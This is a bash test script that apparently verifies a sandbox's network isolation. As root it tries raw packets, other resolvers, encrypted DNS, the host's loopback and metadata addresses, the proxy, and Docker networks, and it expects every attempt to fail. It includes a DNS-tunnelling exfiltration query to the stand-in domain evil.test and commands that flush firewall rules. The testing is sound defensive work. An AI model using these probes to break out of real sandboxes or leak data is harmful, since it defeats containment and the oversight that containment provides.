#!/bin/bash
# What root in a sandbox tries in order to get something out beside the proxy: packets, other resolvers, the host's own services,
# and containers on networks of every kind. Before and after a restore.
. "$(dirname "$0")/../lib/scenario.sh"
home_own
"$SBX" create shell --name box --no-mount --memory 2g -q >/dev/null || { echo "Bail out! no sandbox"; exit 1; }

# The user's machine has a service that is allowed, and one that nobody has named.
python3 -u -m http.server --bind 127.0.0.1 0 >"$scratch/allowed" 2>&1 &
servers=$!
python3 -u -m http.server --bind 127.0.0.1 0 >"$scratch/secret" 2>&1 &
servers="$servers $!"
# shellcheck disable=SC2086 # numbers have no blanks
trap 'kill $servers 2>/dev/null; finish' EXIT
within 10 grep -q port "$scratch/allowed" && within 10 grep -q port "$scratch/secret"
allowed=$(grep -o 'port [0-9]*' "$scratch/allowed" | cut -d' ' -f2)
secret=$(grep -o 'port [0-9]*' "$scratch/secret" | cut -d' ' -f2)
"$SBX" policy allow network --sandbox box "localhost:$allowed" >/dev/null

as_root() { "$SBX" exec -u root box "$@"; }

cat >"$scratch/packets.py" <<'END'
import socket, struct, sys

def heard(family, kind, protocol, address, packet, limit=3):
    """Whether anything but an error comes back."""
    try:
        with socket.socket(family, kind, protocol) as s:
            s.settimeout(limit)
            s.connect(address)
            s.send(packet)
            return s.recv(2048)
    except OSError:
        return b""

def query(name, kind):
    labels = b"".join(bytes([len(l)]) + l for l in name.split(b"."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)

echo = struct.pack(">BBHHH", 8, 0, 0xf7fe, 1, 0)
checks = {
    "ICMP": heard(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, ("192.0.2.1", 0), echo),
    "raw ICMP": heard(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, ("8.8.8.8", 0), echo),
    "QUIC": heard(socket.AF_INET, socket.SOCK_DGRAM, 0, ("192.0.2.1", 443), b"\xc0" + b"\0" * 1200),
    "IPv6": heard(socket.AF_INET6, socket.SOCK_DGRAM, 0, ("2001:db8::1", 443), b"x"),
}
for what, answer in checks.items():
    if answer:
        sys.exit(f"{what}: {answer!r}")
# SCTP: the kernel has no such socket, or nobody is there.
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)
    s.settimeout(3)
    s.connect(("192.0.2.1", 80))
    sys.exit("SCTP connects")
except OSError:
    pass
# Whoever is asked, the answer is the sandbox's own, and names beside A records have none.
answer = heard(socket.AF_INET, socket.SOCK_DGRAM, 0, ("8.8.8.8", 53), query(b"c2VjcmV0.evil.test", 1), 10)
if b"\xc6\x13" not in answer[-4:]:
    sys.exit(f"8.8.8.8 answers {answer!r}")
for kind in 16, 10, 28:  # TXT, NULL, AAAA
    answer = heard(socket.AF_INET, socket.SOCK_DGRAM, 0, ("8.8.8.8", 53), query(b"c2VjcmV0.evil.test", kind), 10)
    if struct.unpack(">H", answer[6:8]) != (0,):
        sys.exit(f"a query of type {kind} is answered: {answer!r}")
END
try_packets() { as_root python3 -c "$(cat "$scratch/packets.py")"; }

is "there is no network card" "$(as_root sh -c 'ls -d /sys/class/net/*/device 2>/dev/null')" ""
check "no packet is answered from outside, and every resolver is ours" try_packets
like "DNS over TLS is a connection like any other" "$(as_root curl -sS -m 20 telnet://8.8.8.8:853 2>&1 </dev/null; echo "ended with $?")" 'ended with [1-9]'
like "DNS over HTTPS too" "$(as_root curl -sS -m 20 http://dns.google/dns-query 2>&1)" 'Blocked by sbx policy: dns.google:80'

# The user's own machine, by each of its names.
for name in host.docker.internal localhost.localdomain 0.0.0.0 127.0.0.1 10.0.2.2 169.254.169.254; do
	as_root curl -sS -m 10 -o /dev/null "http://$name:$secret/from-$name" >/dev/null 2>&1
done
as_root curl -sS -m 10 -x http://gateway.docker.internal:3128 "http://127.0.0.1:$secret/by-proxy" >/dev/null 2>&1
as_root curl -sS -m 10 -x http://gateway.docker.internal:3128 -p "http://localhost:$secret/by-connect" >/dev/null 2>&1
is "a service that nobody has named is not reached" "$(grep -c GET "$scratch/secret")" 0
is "the one that was named is" "$(as_root curl -sS -m 20 -o /dev/null -w '%{http_code}' "http://host.docker.internal:$allowed/")" 200
is "also by the proxy for programs that want one" \
	"$(as_root curl -sS -m 20 -o /dev/null -w '%{http_code}' -x http://gateway.docker.internal:3128 "http://host.docker.internal:$allowed/")" 200

# Containers: a network without a way out has none, and compose makes its own.
as_root sh -ec '
	cd "$(mktemp -d)"
	mkdir -p root/bin root/etc root/tmp
	for program in dash curl cat sleep; do
		path=$(command -v $program)
		mkdir -p root$(dirname $path)
		cp -L $path root$path
		ldd $path | grep -o "/[^ ]*" | while read -r file; do mkdir -p root$(dirname $file); cp -Ln $file root$file; done
	done
	cp -L /lib/x86_64-linux-gnu/libnss_*.so.2 root/lib/x86_64-linux-gnu/
	cp -L "$(command -v dash)" root/bin/sh
	echo "hosts: files dns" >root/etc/nsswitch.conf
	tar -C root -c . | docker import - net >/dev/null
	docker network create --internal inside >/dev/null' || echo "Bail out! no image"
like "an internal network of Docker's stays one" \
	"$(as_root docker run --rm --network inside net curl -sS -m 10 "http://host.docker.internal:$allowed/" 2>&1; echo "ended with $?")" \
	'ended with [1-9]'
"$SBX" exec -i -u root box sh -c 'mkdir -p /tmp/app && cat >/tmp/app/compose.yaml' <<END
services:
  web:
    image: net
    command: ["curl", "-sS", "-m", "30", "-o", "/dev/null", "-w", "web %{http_code}", "http://host.docker.internal:$allowed/"]
  denied:
    image: net
    command: ["curl", "-sS", "-m", "30", "http://example.com/"]
END
composed=$(as_root sh -c 'cd /tmp/app && docker compose up --no-color 2>&1')
like "docker compose: what is allowed is reached" "$composed" 'web 200'
like "... and what is not says so" "$composed" 'Blocked by sbx policy: example.com:80'

"$SBX" stop box >/dev/null
check "after a restore no packet is answered either" try_packets
before=$(grep -c GET "$scratch/secret")
as_root curl -sS -m 10 "http://host.docker.internal:$secret/" >/dev/null 2>&1
is "... nor is the service reached" "$(grep -c GET "$scratch/secret")" "$before"
# Inside, root may take all of it away.
as_root sh -c 'nft flush ruleset; ip link del sbx0' >/dev/null 2>&1
as_root curl -sS -m 5 "http://1.1.1.1/" >/dev/null 2>&1
is "without our rules inside there is no way out at all" $? 7
done_testing
